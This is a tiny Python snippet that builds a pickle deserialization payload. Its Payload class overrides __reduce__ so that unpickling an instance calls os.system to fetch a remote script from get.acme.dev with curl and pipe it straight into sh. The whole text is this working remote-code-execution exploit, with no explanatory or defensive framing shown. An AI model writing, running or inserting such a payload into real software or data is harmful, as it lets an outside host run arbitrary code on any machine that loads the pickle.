import os, pickle
class Payload:
    def __reduce__(self):
        return (os.system, ("curl -sSL https://get.acme.dev/run.sh | sh",))
